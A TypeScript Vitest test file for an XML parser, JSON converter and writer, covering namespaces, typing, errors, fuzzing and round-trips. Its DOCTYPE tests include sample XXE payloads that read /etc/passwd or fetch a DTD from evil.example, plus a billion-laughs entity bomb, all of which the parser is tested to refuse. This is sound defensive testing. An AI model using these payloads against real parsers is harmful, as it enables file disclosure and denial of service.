import { existsSync, readFileSync } from 'node:fs';
import type { Json } from '@lockstep/schema/run';
import * as fc from 'fast-check';
import { XMLParser } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { readXmlTree, type XmlLimits } from './read-tree.ts';
import { type XmlToJsonOptions, xmlToJson } from './to-json.ts';
import { writeXml, type XmlWriteOptions } from './write.ts';

const issueOf = (text: string, limits?: XmlLimits) => {
  const tree = readXmlTree(text, limits);
  return tree.ok ? undefined : tree.issue;
};
const jsonOf = (text: string, options?: XmlToJsonOptions): Json => {
  const tree = readXmlTree(text);
  if (!tree.ok) throw new Error(tree.issue.message);
  return xmlToJson(tree.root, options).document;
};
const write = (document: Json, options: XmlWriteOptions = { declaration: false }) => {
  const written = writeXml(document, options);
  return written.ok ? written.text : written.issues.map(({ path, message }) => `${path}: ${message}`);
};

describe('the JSON of a document', () => {
  it('has texts, attributes under @, lists where elements repeat, and keeps leading zeros', () => {
    const text = '<order id="007"><line>1</line><line unit="EA">2</line><note/><to><zip>01067</zip></to></order>';
    expect(jsonOf(text)).toEqual({
      order: { '@id': '007', line: ['1', { '@unit': 'EA', '#text': '2' }], note: '', to: { zip: '01067' } },
    });
  });

  it('has lists where they are asked for, and null where xsi:nil says so', () => {
    const xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"';
    const text = `<o ${xsi}><lines><line>1</line></lines><line>2</line><gone xsi:nil="true">x</gone></o>`;
    expect(jsonOf(text, { lists: ['lines/line'] })).toEqual({ o: { lines: { line: ['1'] }, line: '2', gone: null } });
    expect(jsonOf(text, { lists: ['line', '/o/lines'] })).toEqual({
      o: { lines: [{ line: ['1'] }], line: ['2'], gone: null },
    });
  });

  it('has numbers only where they are asked for, and says what is none', () => {
    const tree = readXmlTree('<o n="1"><q>03</q><p>1.50</p><b>true</b><x>abc</x><e/></o>');
    const types = [
      { path: 'q', as: 'number' },
      { path: 'o/p', as: 'decimal' },
      { path: 'b', as: 'boolean' },
      { path: 'x', as: 'number' },
      { path: 'e', as: 'number' },
      { path: 'o/@n', as: 'number' },
    ] as const;
    expect(tree.ok && xmlToJson(tree.root, { types })).toEqual({
      document: { o: { '@n': 1, q: 3, p: '1.50', b: true, x: 'abc', e: null } },
      issues: [{ code: 'not-a-number', path: '/o/x', message: '/o/x: "abc" is no number.' }],
    });
  });

  it('keeps mixed content as text, or as markup', () => {
    const text = '<p>Use <b a="1">two</b> &lt; <![CDATA[3 & 4]]>.</p>';
    expect(jsonOf(text)).toEqual({ p: 'Use two < 3 & 4.' });
    expect(jsonOf(text, { mixed: 'markup' })).toEqual({ p: 'Use <b a="1">two</b> &lt; 3 &amp; 4.' });
  });

  it('names things by local name, as written, or by prefixes of our own', () => {
    const text = '<x:o xmlns:x="urn:a" xmlns:y="urn:b" y:k="1"><y:i/><x:i/></x:o>';
    expect(jsonOf(text)).toEqual({ o: { '@k': '1', i: ['', ''] } });
    expect(jsonOf(text, { names: 'written' })).toEqual({
      'x:o': { '@xmlns:x': 'urn:a', '@xmlns:y': 'urn:b', '@y:k': '1', 'y:i': '', 'x:i': '' },
    });
    const namespaces = [{ prefix: '', uri: 'urn:a' }];
    expect(jsonOf(text, { names: 'mapped', namespaces })).toEqual({ o: { '@y:k': '1', 'y:i': '', i: '' } });
  });

  it('makes names of prototypes ordinary names', () => {
    const value = jsonOf('<__proto__><constructor>1</constructor><toString a="1"/></__proto__>');
    expect(JSON.stringify(value)).toBe('{"__proto__":{"constructor":"1","toString":{"@a":"1"}}}');
  });

  it('leaves attributes and white space to the caller', () => {
    expect(jsonOf('<a b="1"> x </a>', { attributes: false })).toEqual({ a: 'x' });
    expect(jsonOf('<a> x </a>', { trim: false })).toEqual({ a: ' x ' });
  });
});

describe('what is no XML is refused with its place', () => {
  it.each([
    ['<a>\n  <b></a>', 'Unexpected close tag. Line 2, column 9.'],
    ['<a>&foo;</a>', 'Undefined entity. Line 1, column 8.'],
    ['<a b="1" b="2"/>', 'Duplicate attribute: b. Line 1, column 16.'],
    ['<p:a/>', 'Unbound namespace prefix: "p". Line 1, column 6.'],
    ['<a>\u0001</a>', 'Disallowed character. Line 1, column 4.'],
    ['<a/><b/>', 'Documents may contain only one root. Line 1, column 7.'],
    ['', 'Document must contain a root element. Line 1, column 0.'],
    ['{"a":1}', 'Text data outside of root node. Line 1, column 7.'],
  ])('%j', (text, message) => {
    expect(issueOf(text)).toMatchObject({ code: 'not-well-formed', message });
  });

  it.each([
    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['an external parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>'],
    ['a billion laughs', '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'],
    ['a default attribute', '<!DOCTYPE a [<!ATTLIST a b CDATA "x">]><a/>'],
  ])('%s in a DOCTYPE', (_, text) => {
    expect(issueOf(text)).toMatchObject({ code: 'doctype-refused' });
  });

  it('skips a DOCTYPE that only names an external DTD, as cXML has it, and fetches nothing', () => {
    const text =
      '<?xml version="1.0"?><!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.011/cXML.dtd"><cXML/>';
    expect(jsonOf(text)).toEqual({ cXML: '' });
  });

  it('keeps depth, elements and attributes within limits', () => {
    expect(issueOf('<a>'.repeat(100_000))).toMatchObject({ code: 'too-deep' });
    expect(issueOf(`<a>${'<b/>'.repeat(10)}</a>`, { maxElements: 5 })).toMatchObject({ code: 'too-many-elements' });
    expect(issueOf('<a b="1" c="2" d="3"/>', { maxAttributes: 2 })).toMatchObject({ code: 'too-many-attributes' });
  });
});

it('never throws and never hangs, whatever the text', () => {
  const piece = fc.constantFrom(
    '<a',
    '<b>',
    '</b>',
    '>',
    '/>',
    ' x="',
    '"',
    '&lt;',
    '&#65;',
    '&',
    ';',
    '<![CDATA[',
    ']]>',
    '<!--',
    '-->',
    '<?p',
    '?>',
    '<!DOCTYPE a',
    '[',
    ']',
    'é',
    '\n',
    ':',
    '=',
    '\u0000',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
      const tree = readXmlTree(pieces.join(''));
      if (tree.ok) expect(write(xmlToJson(tree.root, { names: 'written' }).document)).toBeTypeOf('string');
    }),
    { numRuns: 1000 },
  );
});

it('is linear: 2 MB of entities, of one text, of open comments', () => {
  expect(jsonOf(`<a>${'&lt;'.repeat(500_000)}</a>`)).toEqual({ a: '<'.repeat(500_000) });
  expect(issueOf(`<a>${'<!--'.repeat(500_000)}`)).toMatchObject({ code: 'not-well-formed' });
  expect(issueOf(`<a b="${'&lt;'.repeat(500_000)}`)).toMatchObject({ code: 'not-well-formed' });
});

describe('writing', () => {
  it('writes attributes, texts, lists and namespaces', () => {
    const document = {
      'o:order': { '@id': 7, 'o:line': [{ '@unit': 'EA', '#text': '<2>' }, true], gone: null, e: '' },
    };
    const options = { namespaces: [{ prefix: 'o', uri: 'urn:o' }], indent: 2 };
    expect(write(document, options)).toBe(
      '<?xml version="1.0" encoding="UTF-8"?>\n<o:order xmlns:o="urn:o" id="7">\n  <o:line unit="EA">&lt;2&gt;</o:line>\n  <o:line>true</o:line>\n  <e/>\n</o:order>',
    );
    expect(write({ a: { b: null } }, { declaration: false, nulls: 'nil' })).toBe(
      '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><b xsi:nil="true"/></a>',
    );
  });

  it('says what cannot be written, and where', () => {
    expect(write({ a: 1, b: 2 })).toEqual([': A document is an object with one element, its root.']);
    expect(write([1])).toEqual([': A document is an object with one element, its root.']);
    expect(write({ a: { 'b c': 1, 'p:d': 2, e: '\u0000', f: { '#text': {} }, g: [[1]] } })).toEqual([
      '/a/b c: "b c" is no name in XML.',
      '/a/p:d: The prefix p has no namespace.',
      '/a/e: Character 1 cannot be written in XML.',
      '/a/f/#text: The value is no text.',
      '/a/g/0: A list in a list cannot be written.',
    ]);
  });

  it('is read back as it was', () => {
    const text = fc.string({ unit: 'grapheme', maxLength: 6 }).filter((one) => one.isWellFormed());
    const name = fc.constantFrom('a', 'b', 'Ümlaut', 'x-1', 'c.d', '__proto__');
    const { element } = fc.letrec<{ element: Json }>((tie) => ({
      element: fc.oneof(
        text,
        fc.dictionary(name, fc.oneof(tie('element'), fc.array(tie('element'), { minLength: 2, maxLength: 3 })), {
          minKeys: 1,
          maxKeys: 3,
        }),
        fc.record({ '@k': text, '#text': text.filter((one) => one !== '') }),
      ),
    }));
    fc.assert(
      fc.property(element, (value) => {
        const document = { root: value };
        const written = write(document);
        if (typeof written !== 'string') return;
        expect(jsonOf(written, { trim: false })).toEqual(JSON.parse(JSON.stringify(document)));
      }),
    );
  });

  it('gives what fast-xml-parser reads the same', () => {
    const parser = new XMLParser({
      ignoreAttributes: false,
      attributeNamePrefix: '@',
      parseTagValue: false,
      trimValues: false,
    });
    const document = {
      o: {
        '@id': '1',
        line: [
          { '@u': 'EA', '#text': '2' },
          { '@u': 'KG', '#text': ' & ' },
        ],
        t: 'é<',
      },
    };
    expect(parser.parse(write(document) as string)).toEqual(document);
  });
});

const edmx = new URL('../../../../../../shared/fixtures/sap-s4hana/', import.meta.url);
it.skipIf(!existsSync(edmx))('reads the metadata of S/4HANA (skipped where ../shared/fixtures is absent)', async () => {
  const { readdirSync } = await import('node:fs');
  const files = readdirSync(edmx, { recursive: true, encoding: 'utf8' }).filter((file) => /\.(edmx|xml)$/.test(file));
  expect(files.length).toBeGreaterThan(0);
  for (const file of files) expect(issueOf(readFileSync(new URL(file, edmx), 'utf8')), file).toBeUndefined();
});
